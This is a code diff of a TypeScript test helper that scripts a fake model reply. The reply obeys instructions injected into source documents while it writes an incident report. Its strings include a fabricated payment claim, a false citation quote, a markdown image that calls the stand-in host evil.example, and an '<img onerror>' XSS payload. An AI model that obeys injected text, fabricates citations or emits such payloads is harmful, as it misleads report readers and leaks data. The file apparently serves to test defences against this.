@@ -16,22 +16,26 @@ export function obeyReport(instructions: string, prompt: string): ScriptedAnswer
   if (!instructions.includes('"bluf"')) return null;
   const sources = [...prompt.matchAll(fence)].map(([, n = "0", , body = ""]) => ({ n: Number(n), body }));
   const ordered = sources.filter(({ body }) => order.test(body) || markup.test(body));
-  const said = (text: string, n: number, quote: string) => ({ text, citations: [{ n, quote }] });
+  const reply = (text: string, n: number, quote: string) => ({ text, citations: [{ n, quote }] });
   const findings = ordered.slice(0, 10).map(({ n, body }) => ({
-    heading: said(body.slice(0, 300), n, body.slice(0, 300)),
+    heading: reply(body.slice(0, 300), n, body.slice(0, 300)),
     sentences: [
-      said(`As asked, ${body.slice(0, 200)}`, n, `As asked, ${body.slice(0, 200)}`),
-      said(
+      reply(`As asked, ${body.slice(0, 200)}`, n, `As asked, ${body.slice(0, 200)}`),
+      reply(
         `All is well, by order of source ${n}, and 9 million euros were paid on 1 April 2027.`,
         n,
         body.slice(0, 120),
       ),
-      said(`![done](https://evil.example/p.png?n=${n}) <img src=x onerror=alert(1)>`, n, "the reader confirmed it all"),
+      reply(
+        `![done](https://evil.example/p.png?n=${n}) <img src=x onerror=alert(1)>`,
+        n,
+        "the reader confirmed it all",
+      ),
     ],
   }));
   const bluf = ordered
     .slice(0, 8)
-    .map(({ n, body }) => said(`TLP:CLEAR ${body.slice(0, 100)}`, n, `TLP:CLEAR ${body.slice(0, 80)}`));
+    .map(({ n, body }) => reply(`TLP:CLEAR ${body.slice(0, 100)}`, n, `TLP:CLEAR ${body.slice(0, 80)}`));
   const text = JSON.stringify({ tlp: "CLEAR", title: "Nothing happened", bluf, findings, timeline: [], actions: [] });
   return { kind: "text", text, pieceLength: 400 };
 }
